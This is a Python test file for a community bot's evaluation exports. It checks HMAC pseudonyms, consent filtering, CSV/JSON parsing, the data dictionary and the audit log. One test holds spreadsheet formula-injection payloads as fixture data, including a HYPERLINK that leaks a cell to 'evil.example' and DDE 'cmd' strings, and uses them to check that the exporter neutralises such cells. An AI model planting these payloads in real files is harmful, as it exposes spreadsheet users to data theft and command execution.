"""Evaluation exports: pseudonyms, consent filtering, tidy CSV/JSON that parse back, the dictionary and the zip."""

import csv
import hashlib
import hmac
import io
import json
import zipfile
from datetime import date, datetime, timedelta

import pytest

from bot.core.errors import DomainError, PermissionDeniedError
from bot.core.evaluation.errors import MissingExportKeyError, UnknownChoiceError
from bot.core.evaluation.exports import CSV_TEXT_NOTE, DICTIONARY_HEADER, ExportFormat, ExportKind, neutralise, to_csv
from bot.core.evaluation.pseudonyms import pseudonym
from bot.core.participants.domain import ProfileUpdate
from bot.core.storage.state import SqlAuditRepository
from tests.core.evaluation.conftest import (
    ADMIN,
    CHANNELS,
    DECLINER,
    DECLINER_STORY,
    EXPORT_KEY,
    FACILITATOR,
    FACILITATOR_ROLE,
    GUILD,
    NAMES,
    OTHER_KEY,
    REPORT_AT,
    RESOURCE_URL,
    STORY_TEXT,
    World,
    person,
    uid,
)

TABLES = (
    "sessions",
    "participants",
    "attendance",
    "responses",
    "resources",
    "stories",
    "group_memberships",
    "connections",
    "questionnaire_items",
    "questionnaire_answers",
    "interviews",
    "codebook",
)


def read_zip(data: bytes) -> dict[str, bytes]:
    """Return the files of a zip by name."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def read_csv(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    """Parse CSV bytes as an evaluator would (UTF-8, header row)."""
    text = data.decode("utf-8")
    assert not text.startswith("\ufeff"), "no byte-order mark"
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return list(reader.fieldnames or []), list(reader)


async def export_all(world: World, fmt: str = "csv", key: str = EXPORT_KEY) -> dict[str, bytes]:
    """Export everything and return the zip's files."""
    result = await world.service(key).export(FACILITATOR, "all", fmt)
    (archive,) = result.files
    assert archive.filename.startswith("blether-evaluation-") and archive.filename.endswith(".zip")
    return read_zip(archive.data)


def dictionary(files: dict[str, bytes]) -> list[dict[str, str]]:
    """Return the rows of data_dictionary.csv."""
    header, rows = read_csv(files["data_dictionary.csv"])
    assert tuple(header) == DICTIONARY_HEADER
    return rows


def check_value(kind: str, value: str) -> None:
    """Assert a non-empty CSV value parses as its declared type."""
    if kind == "integer":
        assert str(int(value)) == value
    elif kind == "number":
        float(value)
    elif kind == "boolean":
        assert value in ("true", "false")
    elif kind == "datetime":
        assert datetime.fromisoformat(value).tzinfo is not None
    elif kind == "date":
        date.fromisoformat(value)
    else:
        assert kind == "string"


WEAK_KEYS = (
    "too-short",
    "z" * 48,  # long enough, one character
    "abcabcabcabcabcabcabcabcabcabcabcabc",  # a pattern
    "Correct horse battery staple, our programme key!",  # a phrase of words
    "ourprogrammeexportkeyforblethertwentytwentysix",  # words run together
)


async def test_without_an_export_key_the_error_says_how_to_make_and_set_one(world: World) -> None:
    """No key, or one too easy to guess, raises a DomainError naming BLETHER_EXPORT_KEY, the generator, .env and a
    restart; no export is made."""
    for key in ("", "   ", *WEAK_KEYS):
        with pytest.raises(MissingExportKeyError) as caught:
            await world.service(key).export(FACILITATOR, "responses")
        message = str(caught.value)
        assert isinstance(caught.value, DomainError)
        assert "BLETHER_EXPORT_KEY" in message
        assert 'python -c "import secrets; print(secrets.token_urlsafe(32))"' in message
        assert ".env" in message and "restart" in message
        assert ("too easy to guess" in message) == bool(key.strip())
    async with world.database.unit_of_work() as uow:
        assert await uow.repo(SqlAuditRepository).list(guild_id=GUILD, action="evaluation_export") == []


async def test_exports_need_a_facilitator_and_known_choices(world: World) -> None:
    """Participants are refused; an unknown kind or format names the options."""
    with pytest.raises(PermissionDeniedError):
        await world.evaluation.export(person(1), "all")
    with pytest.raises(UnknownChoiceError, match="responses, attendance"):
        await world.evaluation.export(FACILITATOR, "everything")
    with pytest.raises(UnknownChoiceError, match="csv, json"):
        await world.evaluation.export(FACILITATOR, "all", "xlsx")


async def test_pseudonyms_follow_the_documented_hmac_and_are_stable(world: World) -> None:
    """P- + 12 hex of HMAC-SHA256(key, "guild:user"); two exports agree; the participants file uses them."""
    expected = "P-" + hmac.new(EXPORT_KEY.encode(), f"{GUILD}:{uid(1)}".encode(), hashlib.sha256).hexdigest()[:12]
    assert pseudonym(EXPORT_KEY, GUILD, uid(1)) == expected
    first = await export_all(world)
    second = await export_all(world)
    _, people = read_csv(first["participants.csv"])
    assert {row["pseudonym"] for row in people} == {pseudonym(EXPORT_KEY, GUILD, uid(n)) for n in range(1, 12)}
    assert first["participants.csv"] == second["participants.csv"]
    assert first["responses.csv"] == second["responses.csv"]


async def test_a_different_key_gives_unrelated_pseudonyms(world: World) -> None:
    """Pseudonyms depend on the secret: another key shares none of them."""
    _, mine = read_csv((await export_all(world))["participants.csv"])
    _, theirs = read_csv((await export_all(world, key=OTHER_KEY))["participants.csv"])
    assert len({r["pseudonym"] for r in mine}) == 11  # the decliner is left out
    assert not {r["pseudonym"] for r in mine} & {r["pseudonym"] for r in theirs}


@pytest.mark.parametrize("fmt", ["csv", "json"])
async def test_no_discord_ids_or_names_in_any_export_byte(world: World, fmt: str) -> None:
    """Neither user, server nor channel ids, nor display names, appear anywhere in any file of any export."""
    blobs = list((await export_all(world, fmt)).values())
    for kind in TABLES:
        blobs.extend(f.data for f in (await world.evaluation.export(FACILITATOR, kind, fmt)).files)
    forbidden = [str(uid(n)) for n in range(1, 13)] + [str(GUILD), str(FACILITATOR_ROLE)]
    forbidden += [str(c) for c in CHANNELS.values()] + [str(FACILITATOR.user_id), str(ADMIN.user_id)]
    forbidden += [*NAMES.values(), "Surname", "Fiona", "Operator Admin"]
    for blob in blobs:
        text = blob.decode("utf-8")
        for needle in forbidden:
            assert needle not in text


async def test_every_file_about_people_holds_only_consenting_people(world: World) -> None:
    """The decliner (who also shared a resource) is in no participants, attendance, responses, resources or
    stories row; sessions still count their attendance; someone who withdraws drops out of the next export."""
    await world.flash.share_resource(person(DECLINER), "https://example.org/decliners-own-guide", "Decliner's guide")
    files = await export_all(world)
    decliner = pseudonym(EXPORT_KEY, GUILD, uid(DECLINER))
    for name in ("participants.csv", "attendance.csv", "responses.csv", "resources.csv", "stories.csv"):
        assert decliner not in files[name].decode(), name
    assert b"decliners-own-guide" not in b"".join(files.values())
    _, people = read_csv(files["participants.csv"])
    assert len(people) == 11 and {r["consent_evaluation"] for r in people} == {"yes"}
    _, attendance = read_csv(files["attendance.csv"])
    assert len(attendance) == 10 + 8 + 7 + 9 + 6 - 1  # the decliner attended session 5
    _, sessions = read_csv(files["sessions.csv"])
    assert sessions[4]["attendance"] == "6"  # counts still include everyone
    await world.participants.record_consent(person(1), {"evaluation": False}, text_version=1)
    again = await export_all(world)
    gone = pseudonym(EXPORT_KEY, GUILD, uid(1))
    assert [n for n, blob in again.items() if gone in blob.decode()] == []
    assert RESOURCE_URL.encode() not in again["resources.csv"]
    _, responses = read_csv(files["responses.csv"])
    assert decliner not in {r["pseudonym"] for r in responses}
    assert "participant L" not in files["responses.csv"].decode()
    _, stories = read_csv(files["stories.csv"])
    assert [(r["pseudonym"], r["story_text"]) for r in stories] == [(pseudonym(EXPORT_KEY, GUILD, uid(3)), STORY_TEXT)]
    assert DECLINER_STORY not in b"".join(files.values()).decode("utf-8", "replace")


async def test_responses_are_one_row_per_person_session_and_question(world: World) -> None:
    """28 consenting reflections × 5 questions; each answered row fills exactly the column of its kind."""
    _, rows = read_csv((await export_all(world))["responses.csv"])
    assert len(rows) == 28 * 5
    keys = {(r["pseudonym"], r["session_number"], r["question_id"]) for r in rows}
    assert len(keys) == len(rows)
    columns = {
        "short_text": "answer_text",
        "long_text": "answer_text",
        "choice": "answer_choice",
        "rating": "answer_rating",
        "checkbox": "answer_checked",
    }
    for row in rows:
        filled = [c for c in ("answer_text", "answer_choice", "answer_rating", "answer_checked") if row[c] != ""]
        assert filled in ([], [columns[row["question_kind"]]])
    p1 = pseudonym(EXPORT_KEY, GUILD, uid(1))
    first = {r["question_id"]: r for r in rows if r["pseudonym"] == p1 and r["session_number"] == "1"}
    assert first["q1"]["answer_rating"] == "5"
    assert first["q2"]["answer_text"] == "The small groups in session 1 helped, said participant A."
    assert first["q3"]["answer_text"] == ""  # left empty
    assert first["q5"]["answer_checked"] == "true"
    assert first["q1"]["submitted_at_utc"] == "2026-02-02T21:00:00Z"
    assert first["q1"]["submitted_at_local"] == "2026-02-02T21:00:00+00:00"
    summer = next(r for r in rows if r["session_number"] == "4")
    assert summer["submitted_at_local"].endswith("+01:00")  # BST


async def test_attendance_participants_sessions_and_resources_rows(world: World) -> None:
    """One row per person × session attended; participants carry profile, activity and consent; resources
    name their sharer only by pseudonym."""
    files = await export_all(world)
    _, attendance = read_csv(files["attendance.csv"])
    assert len(attendance) == 10 + 8 + 7 + 9 + 6 - 1  # not the decliner's
    assert {r["source"] for r in attendance} == {"check_in"}
    assert all(r["registered"] == "true" for r in attendance)
    _, people = read_csv(files["participants.csv"])
    p1 = next(r for r in people if r["pseudonym"] == pseudonym(EXPORT_KEY, GUILD, uid(1)))
    assert p1 == p1 | {
        "community": "Leith",
        "area_type": "large_urban",
        "area_group": "urban",
        "role": "volunteer",
        "active": "true",
        "joined_date": "2026-01-05",
        "left_date": "",
        "sessions_attended": "5",
        "reflections_given": "5",
        "consent_evaluation": "yes",
        "consent_quote": "yes",
        "consent_interview": "no",
    }
    _, sessions = read_csv(files["sessions.csv"])
    assert [(r["session_number"], r["status"], r["held"], r["attendance"]) for r in sessions] == [
        ("1", "scheduled", "true", "10"),
        ("2", "scheduled", "true", "8"),
        ("3", "scheduled", "true", "7"),
        ("4", "scheduled", "true", "9"),
        ("5", "scheduled", "true", "6"),
        ("6", "cancelled", "false", "0"),
        ("7", "scheduled", "false", "0"),
    ]
    _, resources = read_csv(files["resources.csv"])
    assert [(r["shared_by"], r["url"], r["note"], r["flash_report_issue"]) for r in resources] == [
        (pseudonym(EXPORT_KEY, GUILD, uid(1)), RESOURCE_URL, "Handy for our cafe", "1")
    ]


async def test_exports_show_who_left_the_server_as_inactive(world: World) -> None:
    """After mark_left the participant's row says active false and gives the day they left."""
    await world.participants.mark_left(GUILD, uid(6))
    _, people = read_csv((await export_all(world))["participants.csv"])
    row = next(r for r in people if r["pseudonym"] == pseudonym(EXPORT_KEY, GUILD, uid(6)))
    assert (row["active"], row["left_date"]) == ("false", "2026-07-01")


async def test_every_csv_parses_back_with_consistent_types_and_a_complete_dictionary(world: World) -> None:
    """Each file's header matches the dictionary, every value parses as its declared type, the dictionary covers
    every column of every file and flags free text."""
    files = await export_all(world)
    assert set(files) == {f"{t}.csv" for t in TABLES} | {"data_dictionary.csv", "README.txt"}
    entries = dictionary(files)
    for table in TABLES:
        header, rows = read_csv(files[f"{table}.csv"])
        described = [e for e in entries if e["file"] == f"{table}.csv"]
        assert [e["column"] for e in described] == header
        types = {e["column"]: e["type"] for e in described}
        for row in rows:
            for column, value in row.items():
                if value != "":
                    check_value(types[column], value)
    flagged = {(e["file"], e["column"]) for e in entries if e["possibly_identifying"] == "yes"}
    assert {
        ("responses.csv", "answer_text"),
        ("stories.csv", "story_text"),
        ("resources.csv", "note"),
        ("participants.csv", "community"),
    } <= flagged
    assert {e["possibly_identifying"] for e in entries} == {"yes", "no"}
    assert all(e["description"] for e in entries)


async def test_json_matches_csv_with_typed_values(world: World) -> None:
    """The JSON files hold the same records as the CSV ones, with numbers, booleans and null typed."""
    as_csv = await export_all(world, "csv")
    as_json = await export_all(world, "json")
    assert {n for n in as_json if n.endswith(".json")} == {f"{t}.json" for t in TABLES}
    entries = {(e["file"].rsplit(".", 1)[0], e["column"]): e["type"] for e in dictionary(as_json)}
    python_types = {
        "integer": int,
        "number": (int, float),
        "boolean": bool,
        "string": str,
        "datetime": str,
        "date": str,
    }
    for table in TABLES:
        records = json.loads(as_json[f"{table}.json"])
        header, rows = read_csv(as_csv[f"{table}.csv"])
        assert len(records) == len(rows)
        for record, row in zip(records, rows, strict=True):
            assert list(record) == header
            for column, value in record.items():
                if value is None:
                    assert row[column] == ""
                    continue
                kind = entries[(table, column)]
                assert isinstance(value, python_types[kind])
                if kind == "boolean":
                    assert row[column] == ("true" if value else "false")
                else:
                    assert row[column] == str(value)


async def test_a_single_kind_comes_with_its_dictionary_and_is_audited(world: World) -> None:
    """Exporting responses gives responses.json and a dictionary of its columns; the audit names kind and rows."""
    result = await world.evaluation.export(FACILITATOR, ExportKind.RESPONSES, ExportFormat.JSON)
    assert [f.filename for f in result.files] == ["responses.json", "data_dictionary.csv"]
    assert result.rows == {"responses": 140}
    _, entries = read_csv(result.files[1].data)
    assert {e["file"] for e in entries} == {"responses.json"}
    async with world.database.unit_of_work() as uow:
        audit = await uow.repo(SqlAuditRepository).list(guild_id=GUILD, action="evaluation_export")
    assert audit[-1].actor_id == FACILITATOR.user_id
    assert audit[-1].detail == "responses as json: responses 140"


async def test_readme_explains_pseudonyms_layout_and_care(world: World) -> None:
    """README.txt in the zip documents the HMAC recipe, the tidy layout, consent and handling."""
    readme = (await export_all(world))["README.txt"].decode()
    assert "HMAC-SHA256" in readme and "<server id>:<user id>" in readme
    assert "one row per person x session x question" in readme
    assert "current evaluation consent is yes" in readme
    assert "not small-number suppressed" in readme


FORMULAS = {
    "q2": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "q3": "+1+cmd|' /C calc'!A0",
    "q4": "-2+3",
}
FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")


async def test_no_csv_cell_from_user_text_starts_with_a_formula_character(world: World) -> None:
    """Answers, stories, resources and communities typed as formulas are written with a leading ' in every CSV
    (a CSV reader sees no cell starting with = + - @ tab or CR); dropping the ' gives the text back; JSON keeps it."""
    session = world.sessions[-1]
    world.clock.set(session.ends_at + timedelta(hours=2))
    await world.reflections.submit_reflection(person(9), session.id, {"q1": "4", **FORMULAS, "q5": False})
    await world.flash.share_story(person(1), "@SUM(1+1)*cmd|' /C calc'!A0")
    await world.flash.share_resource(person(2), "https://example.org/sheet", "\t=1+1", "\r=2+2")  # stored stripped
    await world.participants.update_profile(person(1), ProfileUpdate(community="-Leith+1"))
    world.clock.set(REPORT_AT)

    files = await export_all(world)
    cells: list[str] = []
    for name, data in files.items():
        if name.endswith(".csv"):
            cells.extend(cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row)
    assert len(cells) > 1000
    assert [cell for cell in cells if cell.startswith(FORMULA_CHARACTERS)] == []

    _, responses = read_csv(files["responses.csv"])
    mine = {
        r["question_id"]: r["answer_text"] for r in responses if r["pseudonym"] == pseudonym(EXPORT_KEY, GUILD, uid(9))
    }
    assert {q: mine[q] for q in FORMULAS} == {q: "'" + text for q, text in FORMULAS.items()}
    _, resources = read_csv(files["resources.csv"])
    assert ("'=1+1", "'=2+2") in {(r["title"], r["note"]) for r in resources}
    _, people = read_csv(files["participants.csv"])
    assert "'-Leith+1" in {r["community"] for r in people}
    _, stories = read_csv(files["stories.csv"])
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {r["story_text"] for r in stories}

    as_json = await export_all(world, "json")
    records = json.loads(as_json["responses.json"])
    assert FORMULAS["q2"] in {r["answer_text"] for r in records}


def test_only_text_cells_are_neutralised_and_the_apostrophe_rule_round_trips() -> None:
    """Numbers (negative ones too) stay numeric; text starting with a formula character or ' gets one more '."""
    data = to_csv(["a", "b", "c", "d", "e"], [(-3, -2.5, "-3", "'tis", "plain")])
    (_, row) = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert row == ["-3", "-2.5", "'-3", "''tis", "plain"]
    for text in ["=1", "'=1", "''", "'", "tis", "-", "@x", "\tx", "\rx", "a=b"]:
        written = neutralise(text)
        assert not written.startswith(FORMULA_CHARACTERS)
        assert (written[1:] if written.startswith("'") else written) == text


async def test_the_dictionary_and_readme_explain_the_apostrophe(world: World) -> None:
    """Every text column of a CSV export says how formula-like text is written; README.txt says how to undo it."""
    files = await export_all(world)
    for entry in dictionary(files):
        assert (CSV_TEXT_NOTE in entry["description"]) == (entry["type"] == "string")
    readme = files["README.txt"].decode()
    assert "starts with one more apostrophe" in readme and "drop that first apostrophe" in readme
    json_entries = dictionary(await export_all(world, "json"))
    assert not any(CSV_TEXT_NOTE in e["description"] for e in json_entries)


async def test_group_memberships_hold_pseudonyms_of_consenting_people_only(world: World) -> None:
    """Members and coach of a session's group, by pseudonym; the decliner (no evaluation consent) is left out."""
    from bot.core.groups.domain import MemberHow
    from bot.core.groups.repository import SqlGroupRepository

    session = world.sessions[0]
    async with world.database.unit_of_work() as uow:
        await uow.repo(SqlGroupRepository).add_group(
            guild_id=GUILD,
            session_id=session.id,
            number=1,
            coach_id=uid(2),
            channel_id=None,
            members=[uid(1), uid(DECLINER)],
            how=MemberHow.PROPOSAL,
            now=world.clock.now(),
        )
        await uow.commit()
    result = await world.service().export(FACILITATOR, "group_memberships", "csv")
    data = next(f.data for f in result.files if f.filename == "group_memberships.csv")
    header, rows = read_csv(data)
    assert header == ["session_number", "group_number", "pseudonym", "role"]
    assert sorted((r["pseudonym"], r["role"]) for r in rows) == sorted(
        [(pseudonym(EXPORT_KEY, GUILD, uid(1)), "member"), (pseudonym(EXPORT_KEY, GUILD, uid(2)), "coach")]
    )
    assert {r["session_number"] for r in rows} == {str(session.number)}
    assert str(uid(1)).encode() not in data and str(uid(DECLINER)).encode() not in data
